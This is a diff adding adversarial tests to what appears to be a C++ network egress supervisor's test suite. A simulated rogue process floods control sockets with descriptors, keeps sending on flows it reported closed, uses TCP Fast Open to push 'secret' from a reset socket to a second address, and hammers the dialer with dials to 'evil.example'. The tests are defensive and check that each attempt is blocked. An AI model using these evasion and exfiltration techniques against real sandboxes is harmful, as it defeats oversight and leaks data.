@@ -72,6 +72,26 @@ Destination by_address(const std::string& address, uint16_t port, int32_t rule) 
   return to;
 }
 
+// Past send_message(), which keeps to our own bound.
+void flood_with_descriptors(int socket, size_t count) {
+  for (int turn = 0; turn < 64; ++turn) {
+    char byte = static_cast<char>(RecordType::closed);
+    iovec part{&byte, 1};
+    std::vector<char> control(CMSG_SPACE(sizeof(int) * count));
+    msghdr header{};
+    header.msg_iov = &part;
+    header.msg_iovlen = 1;
+    header.msg_control = control.data();
+    header.msg_controllen = control.size();
+    cmsghdr* rights = CMSG_FIRSTHDR(&header);
+    rights->cmsg_level = SOL_SOCKET;
+    rights->cmsg_type = SCM_RIGHTS;
+    rights->cmsg_len = CMSG_LEN(sizeof(int) * count);
+    std::fill_n(reinterpret_cast<int*>(CMSG_DATA(rights)), count, socket);
+    if (::sendmsg(socket, &header, MSG_NOSIGNAL | MSG_DONTWAIT) < 0) return;
+  }
+}
+
 Script rogue_script(std::function<void(Rogue&)> body) {
   Script script;
   script.proxy_port = 3128;  // no agent is needed
@@ -201,6 +221,104 @@ TEST(HostileInspector, SendsNoMoreBytesThanTheLimit) {
   play_as_both(script);
 }
 
+// Says that flows are over, and goes on sending through the descriptors that it kept.
+TEST(HostileInspector, SendsNothingThroughAConnectionThatItSaidIsOver) {
+  Script script = rogue_script([](Rogue& rogue) {
+    const std::string block(1 << 20, 'x');
+    for (int i = 0; i < 8; ++i) {
+      const Fd kept = rogue.dial(by_name("api.example", 443, 0));
+      rogue.send(rogue.dialer(), Closed{rogue.flow_, false});
+      rogue.dial(by_name("evil.example", 443, 0));  // its answer says that the record before it was read
+      ssize_t sent;
+      while ((sent = ::send(kept.get(), block.data(), block.size(), MSG_NOSIGNAL)) > 0)
+        if (__atomic_add_fetch(&counters().agent_connects, static_cast<int>(sent), __ATOMIC_SEQ_CST) > 64 << 20) break;
+    }
+  });
+  script.policy.limits.bytes_out = 1 << 20;
+  script.check = [](const auto&, const Counters& seen) {
+    EXPECT_EQ(seen.reached, 8);
+    EXPECT_EQ(seen.agent_connects, 0);  // bytes that were taken
+    EXPECT_EQ(seen.bytes_received, 0);
+  };
+  play_as_both(script);
+}
+
+// A connection that its server has reset is a socket again; TCP Fast Open would connect it elsewhere without connect(2).
+TEST(HostileInspector, TurnsNoConnectionThatWasResetElsewhere) {
+  Script script = rogue_script([](Rogue& rogue) {
+    const Fd given = rogue.dial(by_name("api.example", 443, 0));
+    counters().reached = 0;
+    pollfd closed{given.get(), POLLIN, 0};
+    (void)::poll(&closed, 1, 10'000);
+    char byte;
+    (void)!::recv(given.get(), &byte, 1, 0);  // takes the error
+    sockaddr_storage address;
+    const socklen_t size = Endpoint::parse("93.184.216.35:443")->to_sockaddr(address);
+    auto* to = reinterpret_cast<sockaddr*>(&address);
+    iovec part{const_cast<char*>("secret"), 6};
+    mmsghdr many{};
+    many.msg_hdr.msg_name = to;
+    many.msg_hdr.msg_namelen = size;
+    many.msg_hdr.msg_iov = &part;
+    many.msg_hdr.msg_iovlen = 1;
+    const int on = 1;
+    const bool reached[] = {
+        ::sendto(given.get(), "secret", 6, MSG_FASTOPEN | MSG_NOSIGNAL, to, size) >= 0,
+        ::sendmsg(given.get(), &many.msg_hdr, MSG_FASTOPEN | MSG_NOSIGNAL) >= 0,
+        ::sendmmsg(given.get(), &many, 1, MSG_FASTOPEN | MSG_NOSIGNAL) >= 0,
+        ::sendto(given.get(), "secret", 6, MSG_NOSIGNAL, to, size) >= 0,
+        ::setsockopt(given.get(), IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &on, sizeof(on)) == 0,
+        ::connect(given.get(), to, size) == 0,
+    };
+    for (const bool one : reached) counters().reached += one;
+    counters().refused = 1;
+  });
+  script.servers = [servers = script.servers](Servers& book) {
+    book.dns("9.9.9.9:53", {{"api.example", {"93.184.216.34"}}});
+    book.tcp("93.184.216.34:443", [](int socket) {
+      const linger hard{1, 0};
+      ::setsockopt(socket, SOL_SOCKET, SO_LINGER, &hard, sizeof(hard));
+    });
+    book.tcp("93.184.216.35:443", [](int) { __atomic_add_fetch(&counters().bytes_received, 1, __ATOMIC_SEQ_CST); });
+  };
+  script.check = [](const auto&, const Counters& seen) {
+    EXPECT_EQ(seen.refused, 1);
+    EXPECT_EQ(seen.reached, 0);
+    EXPECT_EQ(seen.bytes_received, 0);
+    EXPECT_EQ(seen.connections, 1);
+  };
+  play_as_both(script);
+}
+
+// Asks and asks without hearing an answer, and keeps every descriptor that comes: what the dialer holds is bounded, and
+// so is what it opens.
+TEST(HostileInspector, ExhaustsNothingByAskingWithoutEnd) {
+  Script script = rogue_script([](Rogue& rogue) {
+    WireWriter batch;
+    for (int i = 0; i < 300'000; ++i) {
+      Dial dial;
+      dial.flow = ++rogue.flow_;
+      dial.to = by_name(i % 2 ? "api.example" : "evil.example", 443, 0);
+      batch.put(Dial::kType);
+      write_record(batch, dial);
+      if (batch.bytes().size() < 40'000) continue;
+      if (!send_message(rogue.dialer(), batch.bytes())) return;  // the dialer has had enough
+      batch = WireWriter();
+    }
+  });
+  script.admit = [left = 20](const FlowRequest&) mutable {
+    AdmissionVerdict verdict;
+    verdict.allowed = left-- > 0;
+    verdict.reason = "limits.connections is used up";
+    return verdict;
+  };
+  script.check = [](const auto& events, const Counters& seen) {
+    EXPECT_LE(seen.connections, 20);
+    EXPECT_EQ(count_events(events, "connect", Decision::allow, "evil.example:443"), 0);
+  };
+  play_as_both(script);
+}
+
 TEST(HostileInspector, EndsTheRunByAnythingMalformed) {
   const std::vector<std::pair<const char*, std::function<void(Rogue&)>>> attacks = {
       {"garbage to the dialer", [](Rogue& rogue) { (void)send_message(rogue.dialer(), "\xff\xff\xff\xff garbage"); }},
@@ -219,6 +337,24 @@ TEST(HostileInspector, EndsTheRunByAnythingMalformed) {
          out.put(RecordType::closed);
          write_record(out, Closed{1, false});
          (void)send_message(rogue.dialer(), out.bytes(), std::span(&fd, 1));
+       }},
+      {"a flood of descriptors for the dialer", [](Rogue& rogue) { flood_with_descriptors(rogue.dialer(), kMessageFdLimit); }},
+      {"more descriptors than a message has room for", [](Rogue& rogue) { flood_with_descriptors(rogue.dialer(), 250); }},
+      {"a flood of descriptors for the supervisor", [](Rogue& rogue) { flood_with_descriptors(rogue.supervisor(), kMessageFdLimit); }},
+      {"more of them for the supervisor", [](Rogue& rogue) { flood_with_descriptors(rogue.supervisor(), 250); }},
+      {"a flow without a number", [](Rogue& rogue) {
+         Dial dial;
+         dial.to = by_name("api.example", 443, 0);
+         rogue.send(rogue.dialer(), dial);
+       }},
+      {"an answer in the dialer's place", [](Rogue& rogue) { rogue.send(rogue.dialer(), Dialed{1, DialResult::connected, ""}); }},
+      {"traffic of its own", [](Rogue& rogue) { rogue.send(rogue.supervisor(), Traffic{1, 0, 0, true}); }},
+      {"an acknowledgement in the supervisor's place", [](Rogue& rogue) { rogue.send(rogue.dialer(), Acked{1, 1, true}); }},
+      {"a cut in the supervisor's place", [](Rogue& rogue) { rogue.send(rogue.dialer(), Cut{0}); }},
+      {"a record of no known type", [](Rogue& rogue) { (void)send_message(rogue.dialer(), std::string(1, '\x7f')); }},
+      {"a message that is too long", [](Rogue& rogue) {
+         const std::string long_one(kMessageLimit + 1, '\1');
+         (void)::send(rogue.supervisor(), long_one.data(), long_one.size(), MSG_NOSIGNAL);
        }},
       {"garbage to the supervisor", [](Rogue& rogue) { (void)send_message(rogue.supervisor(), std::string(60000, '\xee')); }},
       {"an event that allows a connection", [](Rogue& rogue) {
